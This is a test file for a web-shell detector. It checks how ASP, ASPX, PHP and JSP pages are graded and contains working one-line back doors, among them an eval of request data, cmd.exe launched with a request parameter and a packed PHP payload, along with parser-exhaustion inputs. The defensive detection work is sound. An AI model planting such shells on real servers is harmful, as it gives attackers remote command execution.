import { expect, test } from 'vitest';
import { doubtfulToo, ordinaryToo, otherWords } from './other-words.fixture.ts';
import { doubtfulFourth, fourthRound, ordinaryFourth } from './fourth-round.fixture.ts';
import { backDoors, bytesOf, ordinary } from './pages.fixture.ts';
import { doubtful, neighbours, roundabout } from './roundabout.fixture.ts';
import { doubtfulThird, ordinaryThird, thirdRound } from './third-round.fixture.ts';
import { looksLikeBinaryPage, looksLikePage, readPage } from './read-page.ts';

const utf8 = new TextEncoder();
const read = (text: string, name: string): ReturnType<typeof readPage> => readPage(utf8.encode(text), name);
const joined = (...pieces: string[]): string => pieces.join('');

test.each(backDoors)('$name does what its visitor says', (page) => {
  const facts = readPage(bytesOf(page), page.name)!;
  expect([facts.grade, facts.accessParameter ?? page.parameter]).toEqual(['back-door', page.parameter ?? facts.accessParameter]);
  expect(facts.capabilities).toContain(page.capability);
  if (page.encoding !== undefined) expect(facts.encoding).toBe(page.encoding);
  expect(facts.decisive!.text.length).toBeGreaterThan(0);
  expect(facts.decisive!.atByte).toBeLessThanOrEqual(bytesOf(page).length);
});

test.each(ordinary)('$name is an ordinary page', (page) => {
  const facts = readPage(bytesOf(page), page.name)!;
  expect([facts.grade, facts.capabilities, facts.cut]).toEqual(['none', [], false]);
});

test.each([...roundabout, ...otherWords, ...thirdRound, ...fourthRound])(
  '$name does what its visitor says, or gives him the keys',
  (page) => {
    const facts = readPage(bytesOf(page), page.name)!;
    expect([facts.grade, facts.accessParameter ?? page.parameter]).toEqual([
      'back-door',
      page.parameter ?? facts.accessParameter,
    ]);
    expect(facts.capabilities).toContain(page.capability);
  },
);

test.each([...doubtful, ...doubtfulToo, ...doubtfulThird, ...doubtfulFourth])('$name is doubtful, whoever decides', (page) => {
  const facts = readPage(bytesOf(page), page.name)!;
  expect(facts.grade).toBe('doubtful');
  expect(facts.capabilities).toContain(page.capability);
});

test.each([...neighbours, ...ordinaryToo, ...ordinaryThird, ...ordinaryFourth])(
  '$name stands next to them and is ordinary',
  (page) => {
    const facts = readPage(bytesOf(page), page.name)!;
    expect([facts.grade, facts.capabilities, facts.cut, facts.codeLength > 0]).toEqual(['none', [], false, true]);
  },
);

test('what is packed is doubtful', () => {
  const facts = read(
    `<?php echo gzuncompress(base64_decode('eJwNydEJgDAMRdFV3gAFFyjdJZqYQiUJGnF983c5t8f4/OYHfiKnIEilYUlk5bGEG8gYl5tCzF+dSMcuJV4XlH2L8QNkTRhA'));`,
    'x.php',
  )!;
  expect([facts.grade, facts.obfuscation.includes('compressed')]).toEqual(['doubtful', true]);
});

test('encoded script beyond what is decoded is said to be read in part, and hides nothing', () => {
  const page = (length: number): ReturnType<typeof readPage> =>
    read(
      `<%@ language="VBScript.Encode" %><${joined('%#@~', '^')}AAAAAA==${'a'.repeat(length)}AAAAAA==${joined('^#', '~@')}%>`,
      'x.asp',
    );
  const [short, long] = [page(2000)!, page((1 << 20) + 200)!];
  expect([short.grade, short.cut, long.grade, long.cut]).toEqual(['none', false, 'doubtful', true]);
});

test('there are many of both', () => {
  expect([
    backDoors.length > 55,
    ordinary.length > 18,
    roundabout.length + otherWords.length > 80,
    doubtful.length + doubtfulToo.length > 40,
    neighbours.length + ordinaryToo.length > 26,
  ]).toEqual([true, true, true, true, true]);
});

test('code that was taken out, and its length kept, is said', () => {
  const blanks = ' '.repeat(5000);
  for (const [text, name] of [
    [`<%@ LANGUAGE = VBScript.Encode %><%${blanks}%>`, 'x.asp'],
    [`<%@ Page Language="C#" %><script runat="server">${blanks}</script>`, 'x.aspx'],
  ] as const) {
    const facts = read(text, name)!;
    expect([facts.grade, facts.shape, facts.codeLength, facts.capabilities], name).toEqual(['doubtful', 'blanked', 0, []]);
  }
  expect(read(`<% Response.Write 1 %><%${' '.repeat(300)}%>`, 'x.asp')!.shape).toBe(null);
});

test('code that only a loader can read is doubtful', () => {
  const facts = read('<?php @Zend;\n4147;\nprint "not installed"; exit(); __halt_compiler();\n?>\n2006', 'x.php')!;
  expect([facts.grade, facts.shape]).toEqual(['doubtful', 'encoded-code']);
  expect(read('<?php print "not installed"; exit();', 'x.php')!.shape).toBe(null);
});

test('round quotes of the code page of China, in a page with bytes that are none of it', () => {
  const quoted = joined(
    '<%@ Page Language=Q',
    'C#Q %><script runat=QserverQ>void P() { System.Diagnostics.Process.Sta',
    'rt(Qcmd.exeQ, Request.Form[QcQ]); }</script>',
  );
  const bytes = quoted.split('').flatMap((letter) => (letter === 'Q' ? [0xa1, 0xb1] : [letter.charCodeAt(0)]));
  const facts = readPage(Uint8Array.from([...bytes, 0xff, 0x20]), 'x.aspx')!;
  expect([facts.encoding, facts.grade]).toEqual(['gbk', 'back-door']);
});

test('the decisive part stands in the bytes where it is said to stand', () => {
  for (const page of backDoors) {
    const facts = readPage(bytesOf(page), page.name)!;
    if (facts.encoding !== 'utf-8') continue;
    const { atByte, byteLength, text } = facts.decisive!;
    const around = new TextDecoder().decode(bytesOf(page).slice(atByte, atByte + byteLength));
    expect(around, page.name).toContain(text.slice(0, 20));
  }
});

test('how it was hidden is said', () => {
  const of = (name: string): readonly string[] =>
    readPage(bytesOf(backDoors.find((page) => page.name === name)!), name)!.obfuscation;
  expect(of('php-packed.php')).toEqual(expect.arrayContaining(['compressed', 'base64', 'rotated']));
  expect(of('vbscript-chr.asp')).toContain('character-codes');
  expect(of('vbscript-reverse.asp')).toContain('reversed');
  expect(of('vbscript-replace.asp')).toContain('replaced');
  expect(of('jscript-escapes.aspx')).toContain('escapes');
  expect(of('php-varvar.php').length).toBeGreaterThanOrEqual(0);
  expect(of('utf7.asp')).toContain('odd-encoding');
  expect(of('gif.php')).toContain('image-header');
});

test('directives are read', () => {
  const facts = read('<%@ Page Language="C#" validateRequest="false" %><%@ Import Namespace="System.IO" %>', 'x.aspx')!;
  expect(facts.directives.map(({ name, attributes }) => [name, Object.fromEntries(attributes)])).toEqual([
    ['page', { language: 'C#', validaterequest: 'false' }],
    ['import', { namespace: 'System.IO' }],
  ]);
  expect([facts.language, facts.codeLength, facts.grade]).toEqual(['none', 0, 'none']);
});

const dump = (url: string): string =>
  `Name                            : OAB (Default Web Site)\r\nPollInterval                    : 480\r\nOfflineAddressBooks             : \r\nRequireSSL                      : True\r\nMetabasePath                    : IIS://MAIL01.haven.example/W3SVC/1/ROOT/OAB\r\nServer                          : MAIL01\r\nInternalUrl                     : https://mail01.haven.example/OAB\r\nExternalUrl                     : ${url}\r\nAdminDisplayVersion             : Version 15.1 (Build 2106.2)\r\n`;

test('a dump of the address book with a script in its address is a page that Exchange wrote', () => {
  const script = joined(
    'http://f/<scr',
    'ipt language="JScript" runat="server">function Page_Load(){ev',
    'al(Request["k"],"uns',
    'afe");}</scr',
    'ipt>',
  );
  const facts = read(dump(script), 'x.aspx')!;
  expect([facts.shape, facts.grade, facts.accessParameter]).toEqual(['oab-dump', 'back-door', 'k']);
  const plain = read(dump('https://mail.haven.example/OAB'), 'x.aspx')!;
  expect([plain.shape, plain.grade]).toEqual(['oab-dump', 'doubtful']);
  // As a text it is what an administrator keeps.
  expect(read(dump('https://mail.haven.example/OAB'), 'oab.txt')).toBe(null);
});

test('a store of mail and a certificate request under the name of a page', () => {
  const pst = Uint8Array.from([0x21, 0x42, 0x44, 0x4e, ...Array.from({ length: 600 }, (_, i) => i & 0xff)]);
  expect(looksLikeBinaryPage(pst, 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx')).toBe(true);
  expect(looksLikeBinaryPage(pst, 'D:\\exports\\anna.pst')).toBe(false);
  expect([readPage(pst, 'x.aspx')!.shape, readPage(pst, 'x.aspx')!.grade]).toEqual(['pst', 'doubtful']);
  const asked = '-----BEGIN NEW CERTIFICATE REQUEST-----\r\nMIIC\r\n-----END NEW CERTIFICATE REQUEST-----\r\n';
  expect(read(asked, 'x.aspx')!.shape).toBe('certificate-request');
  expect(read(asked, 'mail.req')).toBe(null);
});

test('what the server compiled of a page names the page', () => {
  const place = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\8e05b027\\e164d61b\\';
  const text =
    '<?xml version="1.0" encoding="utf-8"?>\r\n<preserve resultType="3" virtualPath="/owa/auth/x.aspx" hash="1" filehash="2" flags="110000" assembly="App_Web_abc" type="ASP.auth_x_aspx">\r\n</preserve>';
  const facts = read(text, `${place}x.aspx.7d1e.compiled`)!;
  expect([facts.shape, facts.virtualPath, facts.grade]).toEqual(['compiled-page', '/owa/auth/x.aspx', 'none']);
  const assembly = Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3]);
  expect(looksLikeBinaryPage(assembly, `${place}App_Web_abc.dll`)).toBe(true);
  expect(readPage(assembly, `${place}App_Web_abc.dll`)!.shape).toBe('compiled-assembly');
  expect(looksLikeBinaryPage(assembly, 'C:\\Windows\\System32\\x.dll')).toBe(false);
});

test('what is no page stays what it is', () => {
  for (const [text, name] of [
    [
      '#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time cs-uri-stem\r\n2021-03-03 04:12:11 /x.aspx\r\n',
      'u_ex.log',
    ],
    ['they left a file <%@ Page %> in our folder', 'note.txt'],
    ['# <?php', 'readme.md'],
    ['<configuration><system.webServer/></configuration>', 'web.config'],
    ['{"a":"<% %>"}', 'x.json'],
  ] as const) {
    expect(looksLikePage(text, name), name).toBe(false);
    expect(read(text, name), name).toBe(null);
  }
  // A page that somebody renamed is one still; configuration that holds code is one too.
  expect(looksLikePage('<%@ Page Language="C#" %><p/>', 'x.aspx.txt')).toBe(true);
  expect(looksLikePage('<configuration/><% x %>', 'web.config')).toBe(true);
});

const heap = (count: number): string => Array.from({ length: count }, () => '"a"').join('+');

/** Texts that would take a careless reader long, or its memory. What is asserted is that they end, and that a limit is said. */
test.each([
  ['joined texts without end', () => `<% eval(${heap(201_000)}) %>`, true],
  ['brackets in brackets', () => `<% x = ${'('.repeat(100_000)}1 %>`, true],
  ['tags that never end', () => '<script runat=server '.repeat(20_000), false],
  ['expressions that never end', () => '${'.repeat(60_000), false],
  ['blocks', () => '<% a %>'.repeat(20_000), false],
  ['doubling', () => `<% a = "ab" : ${'a = a & a : '.repeat(3000)} execute a %>`, false],
  ['remarks without lines', () => `<script runat="server">a = 1; ${'// b; c; { '.repeat(20_000)}</script>`, false],
  ['functions in functions', () => `<%! ${'int f(int a) { '.repeat(3000)} %>`, false],
  ['holes in texts', () => `<?php $x = "${'{$a'.repeat(20_000)}";`, false],
  ['brackets that cross', () => `<?php ${')]}([{)('.repeat(20_000)}`, false],
  ['a text that grows by little', () => `<?php $z = ""; ${'$z .= "UEQ5";'.repeat(6000)}`, false],
  ['code that makes code', () => `<?php ${'eval("eval(1);");'.repeat(500)}`, false],
] as const)('hostile: %s', (_, make, cut) => {
  for (const name of ['x.aspx', 'x.asp', 'x.php', 'x.jsp']) {
    const facts = read(make(), name);
    if (facts !== null && cut && name === 'x.asp') expect(facts.cut).toBe(true);
  }
});

test('a few bytes that promise another encoding blind nobody', () => {
  const shell = joined('<%@ Page Language="Jscript"%><%ev', 'al(Requ', 'est.Item["q"],"unsafe");%>');
  const started = joined('<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe","/c "+Requ', 'est["c"]); %>');
  const blank = ' \u0000'.repeat(300);
  for (const text of [`Lorem ipsum ${shell}`, `Ll${shell}`, `LZ ${shell}`, `<!-- charset=cp037 -->${shell}`])
    expect([read(text, 'a.aspx')!.grade, read(text, 'a.aspx')!.obfuscation], text).toEqual(['back-door', ['odd-encoding']]);
  for (const text of [`<!-- +ADw- -->${started}`, `<!-- charset=utf-7 -->${started}`, `+/v8- ${started}`])
    expect(read(text, 'a.aspx')!.grade, text).toBe('back-door');
  expect(read(`${blank}${shell}`, 'a.aspx')!.grade).toBe('back-door');
  expect(read('Lorem ipsum <p>dolor</p>', 'a.aspx')!.grade).toBe('none');
});

test('names that every object has are names like any other', () => {
  for (const name of ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf']) {
    const uses = `var a=${name}(1); a["x"]=1; var b=${name}.${name}("x"); a[${name}]=new ${name}(b); CreateObject("${name}").${name}(2);`;
    expect(read(`<%@ Page Language="C#" %><% ${uses} %>`, 'a.aspx')!.grade, name).not.toBe('back-door');
    expect(read(`<?php $a=${name}(1)["x"]; $b=new ${name}(); $a->${name}()["y"]; ?>`, 'a.php')!.grade, name).not.toBe(
      'back-door',
    );
    expect(read(`<% Object a = new ${name}(); a.${name}("x")[0]; %>`, 'a.jsp')!.grade, name).not.toBe('back-door');
  }
});

test('a page that is longer than what is read of it is doubtful', () => {
  const facts = read(`<p>${'x'.repeat((16 << 20) + 100)}`, 'a.aspx')!;
  expect([facts.grade, facts.cut]).toEqual(['doubtful', true]);
});

/** A back door behind as many of something as a page has room for. */
function behind(prefix: string, extension: string): ReturnType<typeof readPage> {
  const page = backDoors.find((one) => one.name.endsWith(extension) && one.encoding === undefined)!;
  return readPage(Uint8Array.from([...utf8.encode(prefix), ...bytesOf(page)]), page.name);
}

test.each([
  ['casts', '.php', '<?php $a=', '(int)', '1;?>'],
  ['marks', '.php', '<?php $a=', '~', '1;?>'],
  ['names of names', '.php', '<?php ', '$', 'a=1;?>'],
  ['members by name', '.php', '<?php ', '$a->$', 'a;?>'],
  ['casts of JScript', '.asp', '<script language="JScript" runat="server">a=', '(int)', 'b;</script>'],
  ['types before a name', '.aspx', '<script runat="server" language="C#">void f(){', 'for(;;)while(a)do ', 'b();}</script>'],
] as const)('%s, thousands one before the other, hide nothing that stands behind them', (_name, extension, head, one, tail) => {
  expect(behind('', extension)!.grade).toBe('back-door');
  expect(behind(head + one.repeat(12_000) + tail, extension)!.grade).toBe('back-door');
});

test('a long text that is put together again with every line is looked at for so long, and hides nothing', () => {
  const page = (lines: number): ReturnType<typeof readPage> =>
    behind(`<%b="${'x'.repeat(1 << 16)}"\n${'a="ccc"\na=b&"x"\n'.repeat(lines)}%>`, '.asp');
  expect([page(10)!.grade, page(10)!.cut]).toEqual(['back-door', false]);
  expect([page(1 << 12)!.grade, page(1 << 12)!.cut]).toEqual(['back-door', true]);
  // One that grows by a letter is taken for what it is.
  const grown = behind(`<%${'a=a&"x"\n'.repeat(1 << 14)}%>`, '.asp')!;
  expect([grown.grade, grown.cut]).toEqual(['back-door', false]);
});
